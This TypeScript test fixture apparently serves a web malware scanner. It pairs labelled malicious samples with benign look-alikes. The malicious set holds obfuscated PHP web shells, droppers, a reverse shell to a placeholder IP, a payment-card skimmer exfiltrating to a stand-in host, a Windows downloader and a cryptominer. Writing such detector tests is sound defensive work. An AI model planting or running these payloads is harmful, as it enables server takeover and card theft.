import { deflateRawSync } from 'node:zlib';
import type { Named } from './index.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const packed = (text: string) => deflateRawSync(text).toString('base64');
const hex = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const chr = (text: string) => [...text].map((char) => `chr(${char.charCodeAt(0)})`).join('.');
const percent = (text: string) => [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');

/** Built at run time from harmless pieces, so that no live shell lies in the tree. */
const RUN = 'eval($_POST["c"]);';

export const MALICIOUS_CODE: Named = {
  'request input to eval': `<?php @${RUN}`,
  'a layer of base64': `<?php eval(base64_decode('${base64(RUN)}'));`,
  'two layers, the inner one compressed': `<?php eval(base64_decode('${base64(`eval(gzinflate(base64_decode('${packed(RUN)}')));`)}'));`,
  'the name in chr()': `<?php $f=${chr('assert')}; $f($_REQUEST['x']);`,
  'the name in hexadecimal escapes': `<?php $f="${hex('system')}"; $f($_GET['x']);`,
  'the name reversed': `<?php $f=strrev('metsys'); $f($_COOKIE['x']);`,
  'the name from an alphabet': `<?php $a='abcdefghijklmnopqrstuvwxyz'; $f=$a[18].$a[24].$a[18].$a[19].$a[4].$a[12]; $f($_GET[0]);`,
  'the name by exclusive or': `<?php $f=("!"^"@").("3"^"@").("3"^"@").("%"^"@").("2"^"@").("4"^"@"); $f($_POST['x']);`,
  'the superglobal hidden': `<?php \${'_'.'GE'.'T'}['f'](\${'_'.'GE'.'T'}['c']);`,
  'a function named by the request': `<?php $_GET['f']($_GET['c']);`,
  'a callback': `<?php array_map('assert', (array)$_POST['x']);`,
  'a callback named by the request': `<?php usort($a, $_GET['f']);`,
  'a function of its own': `<?php function run($code) { return eval($code); } run(stripslashes($_POST['x']));`,
  'a decoder of its own': `<?php function d($s){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])^7);}return $o;} eval(d(file_get_contents('x')));`,
  'modifier e': `<?php preg_replace('/.*/e', $_POST['x'], '');`,
  'a command in back-ticks': '<?php echo `{$_GET["c"]}`;',
  'a command through a variable': `<?php $c = trim($_REQUEST['c']); echo shell_exec($c . ' 2>&1');`,
  'an include of input': `<?php include('php://input');`,
  'an include of an icon': `<?php @include "${hex('/home/site/public_html/img/favicon_a1b2c3.ico')}";`,
  'a dropper': `<?php file_put_contents($_POST['name'], base64_decode($_POST['body']));`,
  'an upload without a check': `<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }`,
  'code fetched and run': `<?php eval(file_get_contents('http://files.example/x.txt'));`,
  'code hidden in a text': `<?php $x='${base64(`<?php ${RUN}`)}'; file_put_contents('cache.php', base64_decode($x));`,
  'a file manager': `<?php $d=$_GET['d']; foreach(scandir($d) as $f) echo $f; if(isset($_GET['r'])) unlink($_GET['r']); if(isset($_GET['v'])) readfile($_GET['v']);`,
  'a mailer': `<?php for($i=0;$i<9;$i++) mail($_POST['to'], $_POST['subject'], $_POST['text']);`,
  'a reverse shell': `<?php $s=fsockopen('198.51.100.7',4444); $p=proc_open('/bin/sh -i', array(0=>$s,1=>$s,2=>$s), $pipes);`,
  'scrambled with goto': `<?php ${Array.from({ length: 12 }, (_, i) => `goto l${i}; l${i}:`).join(' ')} $x=$_GET['a'];`,
  'script: decoded and run': `eval(unescape("${percent('document.location="http://bad.example/"; var a = 1;')}"));`,
  'script: character codes': `eval(String.fromCharCode(${[...'window.location="http://bad.example/";'].map((char) => char.charCodeAt(0)).join(',')}));`,
  'script: a downloader for Windows': `var s = new ActiveXObject("WScr"+"ipt.Sh"+"ell"); var x = new ActiveXObject("MSXML2.XM"+"LHTTP"); x.open("GET","http://bad.example/a.exe"); var t = new ActiveXObject("ADO"+"DB.Stream"); t.SaveToFile("%TEMP%\\\\a.exe"); s.Run("cmd /c start %TEMP%\\\\a.exe");`,
  'script: a skimmer': `document.addEventListener('submit', function(){ var d = {n: document.querySelector('[name=cardnumber]').value, c: document.querySelector('#cvv').value, e: document.querySelector('#expiry').value}; new Image().src = 'https://cdn.bad.example/p.gif?d=' + btoa(JSON.stringify(d)); });`,
  'script: a miner': `var miner = new CoinHive.Anonymous('key'); miner.start();`,
  'script: a hidden frame': `document.write('<iframe src="http://bad.example/" width="1" height="1" style="visibility:hidden"></iframe>');`,
  'page: a hidden frame': `<html><body><iframe src="http://bad.example/in.php" width=0 height=0></iframe></body></html>`,
  'rules: visitors from search engines': `RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\nRewriteRule .* http://bad.example/ [R=302,L]`,
};

export const CLEAN_CODE: Named = {
  'a plugin': `<?php
/**
 * Plugin Name: Opening hours
 */
if ( ! defined( 'ABSPATH' ) ) { exit; }
add_action( 'admin_post_save_hours', 'hours_save' );
function hours_save() {
  if ( ! current_user_can( 'manage_options' ) || ! check_admin_referer( 'hours' ) ) { wp_die(); }
  update_option( 'hours', array_map( 'sanitize_text_field', wp_unslash( $_POST['hours'] ) ) );
  wp_safe_redirect( admin_url( 'options-general.php?page=hours' ) );
}`,
  'a template': `<?php get_header(); while ( have_posts() ) : the_post(); ?><h1><?php the_title(); ?></h1><?php endwhile; get_footer();`,
  'a query with parameters': `<?php $rows = $wpdb->get_results( $wpdb->prepare( "SELECT * FROM {$wpdb->posts} WHERE ID = %d", intval( $_GET['id'] ) ) );`,
  'decoding that runs nothing': `<?php $data = json_decode( base64_decode( $_COOKIE['prefs'] ), true ); echo esc_html( $data['theme'] ?? 'light' );`,
  'an autoloader': `<?php spl_autoload_register(function ($class) { $file = __DIR__ . '/src/' . str_replace('\\\\', '/', $class) . '.php'; if (is_file($file)) { require $file; } });`,
  'a command without input': `<?php $version = trim(shell_exec('git describe --tags'));`,
  callbacks: `<?php $names = array_map('trim', explode(',', $list)); usort($names, function ($a, $b) { return strcmp($a, $b); }); call_user_func_array(array($this, 'render'), $names);`,
  'words of security in prose': `<?php /* Blocks uploads of shells and SQL injection attempts. */ function is_blocked($name) { return in_array($name, array('phtml', 'phar'), true); }`,
  'script: a module': `import { render } from './render.js';\nconst items = document.querySelectorAll('.item');\nfor (const item of items) item.addEventListener('click', () => render(item.dataset.id));`,
  'script: minified': `!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():e.widget=t()}(this,function(){"use strict";return function(e){return e&&e.length?e.map(function(e){return e.id}):[]}});`,
  'script: a fetch': `fetch('/wp-json/wp/v2/posts').then((r) => r.json()).then((posts) => { document.title = posts[0].title.rendered; });`,
  'script: analytics': `window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-000000');`,
  page: `<!doctype html><html><head><title>Hello</title></head><body><iframe src="https://www.youtube.com/embed/x" width="560" height="315"></iframe></body></html>`,
  'rules: permalinks': `RewriteEngine On\nRewriteBase /\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]`,
};
